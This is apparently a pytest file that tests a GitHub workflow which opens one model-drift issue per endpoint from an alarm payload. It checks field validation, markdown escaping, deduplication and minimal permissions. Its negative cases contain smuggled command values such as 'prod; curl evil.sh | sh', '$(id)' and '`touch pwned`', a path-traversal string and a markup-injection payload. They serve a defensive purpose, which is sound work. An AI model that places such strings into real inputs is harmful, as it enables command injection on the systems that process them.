"""The drift dispatch becomes one issue per endpoint: the payload validated field by field (it is
untrusted), rendered without anything it holds becoming markup or a command, one open issue per
endpoint (a second alarm comments), and the workflow that runs it (`make drift-issue`, real make and
python3) with minimal permissions."""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.monitoring.fake_github import FakeGitHub
from textclf.monitoring import issue

REPO_ROOT = Path(__file__).resolve().parents[2]
GOOD = {
    "alarm": "textclf-prod-drift",
    "reason": "Threshold Crossed: 1 of 1 periods breaching (Maximum [1.0])",
    "time": "2026-12-01T10:00:00Z",
    "endpoint": "textclf-prod",
    "log_group": "/aws/lambda/textclf-prod-drift-check",
}


def test_a_payload_from_the_alarm_renders_the_issue():
    alarm = issue.parse(json.dumps(GOOD))

    title, body = issue.render(alarm)

    assert title == "Model drift on textclf-prod"
    assert body.startswith(issue.marker("textclf-prod"))
    assert "`textclf-prod-drift`" in body and "2026-12-01T10:00:00Z" in body
    assert "```text\nThreshold Crossed: 1 of 1 periods breaching (Maximum [1.0])\n```" in body
    assert "/aws/lambda/textclf-prod-drift-check" in body and "incoming/" in body


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"endpoint": "prod; curl evil.sh | sh"}, r"client_payload\.endpoint: .* is not a valid endpoint"),
        ({"endpoint": "$(id)"}, r"client_payload\.endpoint"),
        ({"alarm": "x" * 300}, r"client_payload\.alarm"),
        ({"alarm": 5}, r"client_payload\.alarm: 5 is not a valid alarm"),
        ({"log_group": "/aws/lambda/../../etc"}, r"client_payload\.log_group"),
        ({"time": "yesterday"}, r"client_payload\.time"),
        ({"reason": "line one\nline two"}, r"client_payload\.reason: expected 1 to 1024 printable"),
        ({"reason": "r" * 1025}, r"client_payload\.reason"),
        ({"reason": ""}, r"client_payload\.reason"),
        ({"reason": None}, r"client_payload\.reason"),
        ({"extra": "x"}, r"unknown fields \['extra'\]"),
    ],
)
def test_a_payload_the_alarm_cannot_send_is_refused_naming_the_field(change, message):
    with pytest.raises(issue.PayloadError, match=message):
        issue.parse(json.dumps({**GOOD, **change}))


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ("", "not JSON"),
        ("[1, 2]", "expected a JSON object"),
        (json.dumps({k: v for k, v in GOOD.items() if k != "time"}), r"missing fields \['time'\]"),
        (json.dumps({**GOOD, "reason": "x" * 5000}), "more than 4096 bytes"),
    ],
)
def test_malformed_payloads_are_refused(raw, message):
    with pytest.raises(issue.PayloadError, match=message):
        issue.parse(raw)


def test_backticks_in_the_reason_cannot_close_its_code_block():
    reason = "Threshold ```` crossed ``` @everyone [link](https://evil.example) <img src=x>"
    _, body = issue.render(issue.parse(json.dumps({**GOOD, "reason": reason})))

    fence = "`````"  # longer than the longest run of backticks in the reason
    assert f"{fence}text\n{reason}\n{fence}" in body
    assert body.count(reason) == 1  # only inside the block


def test_one_open_issue_per_endpoint_a_second_alarm_comments():
    alarm = issue.parse(json.dumps(GOOD))
    other = issue.parse(json.dumps({**GOOD, "endpoint": "textclf-staging"}))
    with FakeGitHub() as github:
        # Not ours: a pull request quoting the marker, and a closed drift issue.
        github.issues.append(
            {"number": 1, "state": "open", "body": issue.marker("textclf-prod"), "pull_request": {}}
        )
        github.issues.append({"number": 2, "state": "closed", "body": issue.marker("textclf-prod")})
        client = issue.GitHub(github.url, "acme/text-classifier", "t0ken")

        first = issue.publish(client, alarm)
        second = issue.publish(client, alarm)
        staging = issue.publish(client, other)

    assert first == ("opened", 3) and second == ("commented", 3) and staging == ("opened", 4)
    assert github.issues[2]["title"] == "Model drift on textclf-prod"
    assert len(github.issues[2]["comments"]) == 1
    assert all(headers["Authorization"] == "Bearer t0ken" for _, _, headers in github.requests)


def run_make(env: dict[str, str]) -> subprocess.CompletedProcess:
    """`make drift-issue` as the workflow runs it: no virtualenv, only the job's environment."""
    keep = {k: os.environ[k] for k in ("PATH", "HOME", "LANG") if k in os.environ}
    return subprocess.run(
        ["make", "--no-print-directory", "drift-issue"],
        cwd=REPO_ROOT,
        env={**keep, **env},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_make_drift_issue_opens_the_issue_and_refuses_a_forged_payload():
    with FakeGitHub() as github:
        env = {"GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": "acme/text-classifier", "GITHUB_TOKEN": "t"}
        opened = run_make({**env, "DRIFT_PAYLOAD": json.dumps(GOOD)})
        forged = run_make({**env, "DRIFT_PAYLOAD": json.dumps({**GOOD, "endpoint": "`touch pwned`"})})

    assert opened.returncode == 0, opened.stderr
    assert json.loads(opened.stdout.splitlines()[-1]) == {
        "drift_issue": "opened",
        "number": 1,
        "endpoint": "textclf-prod",
    }
    assert forged.returncode == 2
    assert "client_payload.endpoint: '`touch pwned`' is not a valid endpoint" in forged.stderr
    assert len(github.issues) == 1 and not (REPO_ROOT / "pwned").exists()


def test_the_workflow_listens_to_the_alarms_event_type_with_minimal_permissions():
    workflow = yaml.safe_load((REPO_ROOT / ".github" / "workflows" / "drift.yml").read_text(encoding="utf-8"))
    variables = (REPO_ROOT / "terraform" / "variables.tf").read_text(encoding="utf-8")
    default = re.search(r'variable "drift_event_type".*?default\s*=\s*"([^"]+)"', variables, re.S)

    assert default is not None and workflow[True]["repository_dispatch"]["types"] == [default.group(1)]
    assert workflow["permissions"] == {}
    [job] = workflow["jobs"].values()
    assert job["permissions"] == {"contents": "read", "issues": "write"}
    runs = [step for step in job["steps"] if "run" in step]
    assert [step["run"] for step in runs] == ["make drift-issue"]
    assert "client_payload" in runs[0]["env"]["DRIFT_PAYLOAD"]  # data in the environment, not the command
    assert workflow["concurrency"]["cancel-in-progress"] is False  # two alarms never open two issues


@pytest.mark.parametrize(
    ("user", "association", "action"),
    [
        ("stranger", "NONE", ("opened", 2)),
        ("drive-by", "CONTRIBUTOR", ("opened", 2)),
        ("github-actions[bot]", "NONE", ("commented", 1)),
        # MEMBER alone is no proof of write access (round 10, F-n): this fake has no permission API,
        # so the author's permission is unknown and the issue is not taken (test_drift_issue_search.py).
        ("maintainer", "MEMBER", ("opened", 2)),
    ],
)
def test_only_an_issue_the_workflow_or_a_collaborator_opened_takes_the_alarm(user, association, action):
    """A stranger's issue quoting the marker took every alarm as a comment (issue 27 round 9, F-k)."""
    with FakeGitHub() as github:
        github.issues.append(
            {
                "number": 1,
                "state": "open",
                "title": "Typo in README",
                "body": f"fix the typo please\n{issue.marker('textclf-prod')}",
                "user": {"login": user},
                "author_association": association,
                "comments": [],
                # A writer's issue is searched by its label (test_drift_issue_search.py).
                "labels": [{"name": "model-drift"}],
            }
        )
        client = issue.GitHub(github.url, "acme/text-classifier", "t0ken")

        assert issue.publish(client, issue.parse(json.dumps(GOOD))) == action

    assert len(github.issues[0]["comments"]) == (action[0] == "commented")


def test_an_issue_without_an_author_is_not_taken_as_ours():
    """GitHub's issue objects always name their author; one that does not is no proof of anything."""
    assert not issue.opened_by_us({"number": 1, "body": issue.marker("textclf-prod")})
    assert issue.opened_by_us({"number": 1, "user": {"login": "github-actions[bot]"}})
